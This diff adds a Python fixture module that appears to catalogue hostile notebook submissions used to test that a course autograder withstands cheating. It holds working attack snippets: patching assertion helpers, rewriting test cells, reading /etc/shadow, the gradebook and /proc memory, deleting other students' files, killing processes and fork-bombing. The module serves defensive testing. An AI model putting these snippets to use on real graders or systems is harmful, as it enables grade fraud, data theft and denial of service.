@@ -1,0 +1,474 @@
+"""Hostile submissions of 01_self_attention: each one is a wrong answer plus an attack on the grader.
+
+Every entry names the class of attack it belongs to (``kind``) and the catalogue mistake it is
+built on (``base``). The tests grade them in one real autograde run next to the demo class and
+require each to score, cell by cell, no more than its base mistake scores without the attack
+(exactly as much where ``exact``), leak nothing, and leave every other student's grades,
+``source/`` and the other submissions unchanged.
+"""
+
+from __future__ import annotations
+
+import copy
+import json
+from dataclasses import dataclass
+
+from attention_course.grading.course import catalogue_path
+from attention_course.grading.submissions import Submission, load_catalogue
+
+ASSIGNMENT = "01_self_attention"
+NOTEBOOK = "self_attention.ipynb"
+BASE = {s.name: s for s in load_catalogue(catalogue_path(ASSIGNMENT))}
+#: printed by attacks that try to leak (their source spells it as two halves, so only output shows it whole)
+LEAK = "LEAKED>>"
+SAY_LEAK = '"LEAK" + "ED>>"'
+
+
+@dataclass
+class Attack:
+    name: str
+    kind: str
+    description: str
+    base: str  # a catalogue mistake, or "complete" for attacks on a correct answer (malformed input)
+    code: str = ""  # a student cell inserted after the setup cell
+    transform: object = None  # notebooks -> notebooks, after the cell is inserted
+    files: dict = None
+    exact: bool = True  # scores equal the base's (otherwise: no cell scores more)
+    needs: str = ""  # a sandbox feature the attack must not be run without ("signals")
+
+    def submission(self) -> Submission:
+        base = BASE.get(self.base)
+        edits = list(base.edits) if base else []
+        replace = dict(base.replace) if base else {}
+
+        def transform(notebooks):
+            notebooks = copy.deepcopy(notebooks)
+            if self.code:
+                insert_after(notebooks[NOTEBOOK], "setup", self.code)
+            return self.transform(notebooks) if self.transform else notebooks
+
+        return Submission(self.name, self.description, edits=edits, replace=replace,
+                          transform=transform, files=dict(self.files or {}))
+
+
+def insert_after(nb: dict, grade_id: str, source: str) -> None:
+    at = next(i for i, c in enumerate(nb["cells"]) if c["metadata"].get("nbgrader", {}).get("grade_id") == grade_id)
+    nb["cells"].insert(at + 1, {"cell_type": "code", "metadata": {}, "source": source.strip("\n"),
+                                "outputs": [], "execution_count": None})
+
+
+def grade_cells(nb: dict):
+    return [c for c in nb["cells"] if c["metadata"].get("nbgrader", {}).get("grade") and c["cell_type"] == "code"]
+
+
+def on_notebook(fn):
+    def transform(notebooks):
+        fn(notebooks[NOTEBOOK])
+        return notebooks
+    return transform
+
+
+def _tag_skip(nb):
+    for cell in grade_cells(nb):
+        cell["metadata"]["tags"] = ["skip-execution", "raises-exception"]
+
+
+def _points(nb):
+    for cell in grade_cells(nb):
+        md = cell["metadata"]["nbgrader"]
+        if md["grade_id"] in BASE["unscaled-scores"].loses:
+            md.update(grade=False, points=0)  # hide the failing tests ...
+        else:
+            md["points"] = 1000  # ... and inflate the passing ones
+
+
+def _rename_ids(nb):
+    for cell in grade_cells(nb):
+        cell["metadata"]["nbgrader"]["grade_id"] += "_renamed"
+
+
+def _fake_cells(nb):
+    for cell in list(grade_cells(nb)):
+        fake = {"cell_type": "code", "source": "pass", "outputs": [], "execution_count": None,
+                "metadata": {"nbgrader": dict(cell["metadata"]["nbgrader"], locked=False, solution=True)}}
+        nb["cells"].insert(nb["cells"].index(cell), fake)
+
+
+def _delete_tests(nb):
+    nb["cells"] = [c for c in nb["cells"] if c not in grade_cells(nb)]
+
+
+def _blank_tests(nb):
+    for cell in grade_cells(nb):
+        cell["source"] = '"""(emptied)"""\npass'
+
+
+def _tests_after_exit(nb):
+    tests = grade_cells(nb)
+    nb["cells"] = [c for c in nb["cells"] if c not in tests]
+    nb["cells"].append({"cell_type": "code", "metadata": {}, "source": "import os\nos._exit(0)",
+                        "outputs": [], "execution_count": None})
+    nb["cells"].extend(tests)
+
+
+def _exfiltrate(notebooks):
+    nb = notebooks[NOTEBOOK]
+    insert_after(nb, "scaled_scores", EXFILTRATE)
+    nb["cells"].append({"cell_type": "code", "metadata": {}, "source": f'print({SAY_LEAK}, SEEN)',
+                        "outputs": [], "execution_count": None})
+    return notebooks
+
+
+def _corrupt(notebooks):
+    return {NOTEBOOK: json.dumps(notebooks[NOTEBOOK])[: 5000]}  # cut off in the middle: not valid JSON
+
+
+def _renamed(notebooks):
+    return {"self_attention (1).ipynb": notebooks[NOTEBOOK]}
+
+
+def _wrong_kernel(nb):
+    nb["metadata"]["kernelspec"] = {"name": "ir", "display_name": "R", "language": "R"}
+    nb["metadata"]["language_info"] = {"name": "R"}
+
+
+def _old_format(notebooks):
+    import nbformat
+
+    nb = nbformat.from_dict(notebooks[NOTEBOOK])
+    return {NOTEBOOK: nbformat.writes(nbformat.convert(nb, 3), version=3)}
+
+
+READ_DISK = f'''
+import glob, os, sqlite3
+found = []
+here = os.getcwd()
+candidates = ["gradebook.db", "../gradebook.db", "../../gradebook.db", "../../../gradebook.db",
+              "../../../source/01_self_attention/self_attention.ipynb", "/etc/shadow"]
+parts = here.split(os.sep)
+for i in range(1, len(parts)):
+    root = os.sep.join(parts[:i]) or os.sep
+    candidates += [os.path.join(root, "gradebook.db"), os.path.join(root, "source", "01_self_attention", "self_attention.ipynb")]
+candidates += glob.glob("/tmp/**/gradebook.db", recursive=True)[:20] + glob.glob("/work/**/gradebook.db", recursive=True)[:20]
+for path in candidates:
+    try:
+        with open(path, "rb") as f:
+            found.append(f.read())
+    except OSError:
+        pass
+    try:
+        rows = sqlite3.connect(f"file:{{path}}?mode=ro", uri=True).execute("select source from source_cell").fetchall()
+        found.append(repr(rows).encode())
+    except Exception:
+        pass
+print({SAY_LEAK}, b"".join(found)[:200000])
+'''
+
+READ_MEMORY = f'''
+import os
+loot = []
+for pid in [os.getppid()] + [p for p in os.listdir("/proc") if p.isdigit()]:
+    for what in ("environ", "mem", "cmdline", "maps"):
+        try:
+            with open(f"/proc/{{pid}}/{{what}}", "rb") as f:
+                loot.append(f.read(4096))
+        except OSError:
+            pass
+print({SAY_LEAK}, [x for x in loot if b"HIDDEN" in x or b"gradebook" in x][:5])
+'''
+
+SNOOP_FRAMES = '''
+import gc, sys
+import numpy as np
+
+def self_attention(X, W_q, b_q, W_k, b_k, W_v, b_v):
+    """Unscaled (wrong), unless a reference of the right shape can be found in the caller's memory."""
+    L, dv = X.shape[0], W_v.shape[1]
+    frame = sys._getframe(1)
+    while frame is not None:
+        for name, value in list(frame.f_locals.items()):
+            if isinstance(value, np.ndarray) and value.shape == (L, L) and "ref" in name:
+                return value @ (X @ W_v + b_v), value
+        frame = frame.f_back
+    for obj in gc.get_objects():
+        if isinstance(obj, dict) and "A_ref_" in obj:
+            A = obj["A_ref_"]
+            return A @ (X @ W_v + b_v), A
+    Q, K, V = X @ W_q + b_q, X @ W_k + b_k, X @ W_v + b_v
+    S = Q @ K.T
+    E = np.exp(S - S.max(axis=-1, keepdims=True))
+    A = E / E.sum(axis=-1, keepdims=True)
+    return A @ V, A
+'''
+
+EXFILTRATE = f'''
+import numpy as np
+SEEN = []
+_original_scaled_scores = scaled_scores
+
+def scaled_scores(Q, K):
+    SEEN.append((np.asarray(Q).tolist(), np.asarray(K).tolist()))
+    return _original_scaled_scores(Q, K)
+'''
+
+WRITE_OUTSIDE = '''
+import glob, os, shutil
+here = os.getcwd()
+targets = glob.glob("../../../source/**/*.ipynb", recursive=True) + glob.glob("../../*/01_self_attention/*.ipynb")
+parts = here.split(os.sep)
+for i in range(1, len(parts)):
+    root = os.sep.join(parts[:i]) or os.sep
+    targets += glob.glob(os.path.join(root, "source", "*", "*.ipynb")) + glob.glob(os.path.join(root, "submitted", "*", "*", "*.ipynb"))
+    targets += [os.path.join(root, "gradebook.db")]
+for path in targets + ["/tmp/attention-canary.txt", os.path.expanduser("~/../../attention-canary.txt")]:
+    try:
+        with open(path, "w") as f:
+            f.write("overwritten by a submission")
+    except OSError:
+        pass
+    try:
+        os.remove(path)
+    except OSError:
+        pass
+for i in range(1, len(parts)):
+    for d in glob.glob(os.path.join(os.sep.join(parts[:i]) or os.sep, "submitted", "*")):
+        shutil.rmtree(d, ignore_errors=True)
+with open("big.bin", "wb") as f:  # a file larger than the kernel may write
+    try:
+        for _ in range(1024):
+            f.write(b"x" * 2**20)
+    except OSError:
+        pass
+'''
+
+PATCH_NUMPY = '''
+import numpy as np
+np.allclose = lambda *a, **k: True
+np.isclose = lambda a, b, *x, **k: np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, dtype=bool)
+np.testing.assert_allclose = lambda *a, **k: None
+np.abs = np.absolute = lambda x, *a, **k: np.zeros_like(np.asarray(x, dtype=float))
+np.isfinite = lambda x, *a, **k: np.ones_like(np.asarray(x), dtype=bool)
+'''
+
+PATCH_TORCH = '''
+import torch
+torch.allclose = lambda *a, **k: True
+torch.equal = lambda *a, **k: True
+torch.isfinite = lambda x: torch.ones_like(torch.as_tensor(x), dtype=torch.bool)
+torch.testing.assert_close = lambda *a, **k: None
+torch.Tensor.__eq__ = lambda self, other: torch.ones_like(self, dtype=torch.bool)
+'''
+
+PATCH_COURSE = '''
+import attention_course, attention_course.checks as checks
+for name in ("assert_close", "check_shape", "check_sums_to_one", "check_unchanged", "to_numpy"):
+    setattr(checks, name, lambda *a, **k: None)
+    setattr(attention_course, name, lambda *a, **k: None)
+    globals()[name] = lambda *a, **k: None
+'''
+
+PATCH_BUILTINS = '''
+import builtins
+builtins.abs = lambda x: 0
+builtins.all = lambda *a: True
+builtins.any = lambda *a: False
+builtins.float = lambda *a: 0.0
+'''
+
+LIAR = '''
+class Anything:
+    """Claims to equal everything."""
+    shape = (5, 7)
+    def __eq__(self, other): return True
+    def __sub__(self, other): return 0.0
+    def __abs__(self): return 0.0
+    def __lt__(self, other): return True
+    def __le__(self, other): return True
+    def __gt__(self, other): return False
+    def __ge__(self, other): return False
+    def __float__(self): return 0.0
+    def __array__(self, *a, **k): raise TypeError("no")
+
+def scaled_scores(Q, K):
+    return Anything()
+'''
+
+INPUT_TRANSFORMER = '''
+def _neuter(lines):
+    text = "".join(lines)
+    return ["pass\\n"] if ("assert" in text or "check_" in text) else lines
+get_ipython().input_transformers_post.append(_neuter)
+'''
+
+AST_TRANSFORMER = '''
+import ast
+
+class _NoChecks(ast.NodeTransformer):
+    def visit_Assert(self, node):
+        return ast.Pass()
+
+    def visit_Expr(self, node):
+        call = node.value
+        if isinstance(call, ast.Call) and getattr(call.func, "id", "").startswith(("assert_", "check_")):
+            return ast.Pass()
+        return node
+
+get_ipython().ast_transformers.append(_NoChecks())
+'''
+
+CUSTOM_EXC = '''
+ip = get_ipython()
+ip.set_custom_exc((BaseException,), lambda shell, etype, evalue, tb, tb_offset=None: None)
+ip.showtraceback = lambda *a, **k: None
+import sys
+sys.excepthook = lambda *a: None
+'''
+
+EVENTS = '''
+import attention_course.checks as checks
+
+def _before(*args):
+    g = get_ipython().user_ns
+    for name in ("assert_close", "check_shape", "check_sums_to_one", "check_unchanged"):
+        g[name] = lambda *a, **k: None
+
+def _after(result):
+    result.error_in_exec = None
+    result.error_before_exec = None
+
+get_ipython().events.register("pre_run_cell", _before)
+get_ipython().events.register("post_run_cell", _after)
+'''
+
+DETECT_GRADER = '''
+import os
+if os.environ.get("NBGRADER_EXECUTION") == "autograde" or "autograded" in os.getcwd() or not os.path.exists("/etc/hostname"):
+    import numpy as np, attention_course.checks as checks
+    np.allclose = lambda *a, **k: True
+    for name in ("assert_close", "check_shape", "check_sums_to_one", "check_unchanged"):
+        setattr(checks, name, lambda *a, **k: None)
+        globals()[name] = lambda *a, **k: None
+    get_ipython().input_transformers_post.append(lambda lines: ["pass\\n"] if "assert" in "".join(lines) else lines)
+'''
+
+REPLACE_AGENT = '''
+import sys, types
+import numpy as np
+fake = types.ModuleType("attention_course.grading.agent")
+fake.serve = lambda: None
+fake.connect = lambda path: None
+sys.modules["attention_course.grading.agent"] = fake
+'''
+
+KILL_GRADER = '''
+import os, signal
+for target in (os.getppid(), -os.getpgid(os.getppid()), 1):
+    try:
+        os.kill(target, signal.SIGKILL)
+    except OSError:
+        pass
+'''
+
+KILL_EVERYTHING = '''
+import os, signal
+os.kill(-1, signal.SIGKILL)
+'''
+
+FORK_BOMB = '''
+import os, time
+children = 0
+try:
+    while children < 5000:
+        pid = os.fork()
+        if pid == 0:
+            os.setsid()
+            time.sleep(900)
+            os._exit(0)
+        children += 1
+except OSError as exc:
+    print("fork refused after", children, "children:", exc)
+'''
+
+ATTACKS = [
+    # -- replacing or wrapping comparison and assertion helpers ---------------------------------
+    Attack("patch-numpy", "helpers", "replaces np.allclose, np.isclose, np.abs, np.isfinite", "unscaled-scores",
+           PATCH_NUMPY, exact=False),  # the student's own code uses np.allclose too
+    Attack("patch-torch", "helpers", "replaces torch.allclose, torch.equal, torch.isfinite, Tensor.__eq__",
+           "softmax-over-batch", PATCH_TORCH, exact=False),
+    Attack("patch-course-checks", "helpers", "replaces assert_close and every check of the course package",
+           "unscaled-scores", PATCH_COURSE),
+    Attack("patch-builtins", "helpers", "replaces abs, all, any and float in builtins", "unscaled-scores",
+           PATCH_BUILTINS, exact=False),
+    Attack("lying-result", "helpers", "returns an object that claims to equal everything", "unscaled-scores",
+           LIAR, exact=False),
+    # -- rewriting or skipping cells -----------------------------------------------------------
+    Attack("input-transformer", "cells", "rewrites every later test cell to `pass` (IPython input transformer)",
+           "unscaled-scores", INPUT_TRANSFORMER),
+    Attack("ast-transformer", "cells", "removes asserts and check calls from later cells (IPython AST transformer)",
+           "unscaled-scores", AST_TRANSFORMER),
+    Attack("custom-exception-handler", "cells", "swallows every exception (set_custom_exc, showtraceback)",
+           "unscaled-scores", CUSTOM_EXC),
+    Attack("cell-events", "cells", "pre/post-run-cell hooks that disable checks and clear errors",
+           "unscaled-scores", EVENTS),
+    Attack("skip-execution-tags", "cells", "tags every test cell skip-execution", "unscaled-scores",
+           transform=on_notebook(_tag_skip)),
+    Attack("points-and-grade-flags", "cells", "unflags failing tests, gives passing ones 1000 points",
+           "unscaled-scores", transform=on_notebook(_points)),
+    Attack("renamed-test-ids", "cells", "renames every test cell's grade_id", "unscaled-scores",
+           transform=on_notebook(_rename_ids)),
+    Attack("fake-test-cells", "cells", "puts an empty copy (solution metadata) before every test cell",
+           "unscaled-scores", transform=on_notebook(_fake_cells)),
+    Attack("deleted-tests", "cells", "deletes every test cell", "unscaled-scores", transform=on_notebook(_delete_tests)),
+    Attack("emptied-tests", "cells", "replaces the source of every test cell with `pass`", "unscaled-scores",
+           transform=on_notebook(_blank_tests)),
+    Attack("tests-after-exit", "cells", "moves the tests to the end, after a cell that ends the kernel",
+           "unscaled-scores", transform=on_notebook(_tests_after_exit)),
+    Attack("replaced-agent", "cells", "replaces the grader's agent module in the kernel", "unscaled-scores",
+           REPLACE_AGENT, exact=False),
+    # -- detecting the grader ---------------------------------------------------------------------
+    Attack("detect-grader", "detect", "patches checks and cells only when it sees it is being autograded",
+           "unscaled-scores", DETECT_GRADER, exact=False),  # its own is_permutation_equivariant uses np.allclose
+    # -- reading hidden tests or references -------------------------------------------------------
+    Attack("snoop-references", "read", "searches the caller's frames and the heap for reference arrays",
+           "unscaled-scores", SNOOP_FRAMES),
+    Attack("read-disk", "read", "reads the gradebook and the master notebook from disk and prints them",
+           "unscaled-scores", READ_DISK),
+    Attack("read-grader-memory", "read", "reads the grader's /proc environ, mem and maps", "unscaled-scores",
+           READ_MEMORY),
+    Attack("symlinks", "read", "hands in symlinks to the gradebook and the master notebook", "unscaled-scores",
+           f'for p in ("gradebook.db", "master.ipynb"):\n    try:\n        print({SAY_LEAK}, open(p, "rb").read()[:100000])\n'
+           f'    except OSError as e:\n        print(e)',
+           files={"gradebook.db": ("symlink", "../../../gradebook.db"),
+                  "master.ipynb": ("symlink", "../../../source/01_self_attention/self_attention.ipynb")}),
+    Attack("exfiltrate-inputs", "read", "records the hidden tests' inputs and prints them at the end",
+           "unscaled-scores", transform=_exfiltrate),
+    # -- faults -------------------------------------------------------------------------------------
+    Attack("os-exit", "fault", "ends the kernel with os._exit in a cell of its own", "unscaled-scores",
+           "import os\nos._exit(3)"),
+    Attack("segfault", "fault", "crashes the kernel with a segmentation fault", "unscaled-scores",
+           "import ctypes\nctypes.string_at(0)"),
+    Attack("infinite-loop", "fault", "loops for ever", "unscaled-scores", "while True:\n    pass"),
+    Attack("unstoppable-loop", "fault", "ignores interrupts, then loops for ever", "unscaled-scores",
+           "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass"),
+    Attack("memory-bomb", "fault", "allocates memory until something gives", "unscaled-scores",
+           "blocks = []\nwhile True:\n    blocks.append(bytearray(2**28))"),
+    Attack("fork-bomb", "fault", "forks thousands of sleeping children", "unscaled-scores", FORK_BOMB),
+    Attack("output-flood", "fault", "prints 100 MB", "unscaled-scores",
+           "import sys\nfor _ in range(100):\n    sys.stdout.write('x' * 2**20)"),
+    Attack("kill-grader", "fault", "sends SIGKILL to the grader, its process group and init", "unscaled-scores",
+           KILL_GRADER, needs="signals"),
+    Attack("kill-everything", "fault", "sends SIGKILL to every process it may (kill -1)", "unscaled-scores",
+           KILL_EVERYTHING, needs="signals"),
+    Attack("write-outside", "fault", "overwrites and deletes the gradebook, source/ and other submissions",
+           "unscaled-scores", WRITE_OUTSIDE),
+    # -- malformed input ----------------------------------------------------------------------------
+    Attack("corrupt-json", "malformed", "a notebook cut off in the middle (not valid JSON)", "unscaled-scores",
+           transform=_corrupt, exact=False),
+    Attack("renamed-notebook", "malformed", "the notebook handed in under another name", "unscaled-scores",
+           transform=_renamed, exact=False),
+    Attack("wrong-kernel", "malformed", "the notebook claims an R kernel", "unscaled-scores",
+           transform=on_notebook(_wrong_kernel)),
+    Attack("old-nbformat", "malformed", "the notebook saved as nbformat 3", "unscaled-scores", transform=_old_format),
+    Attack("extra-files", "malformed", "extra files, among them a numpy.py that shadows NumPy", "unscaled-scores",
+           files={"numpy.py": b"raise ImportError('shadowed')\n", "data/notes.txt": b"hello\n"}, exact=False),
+]
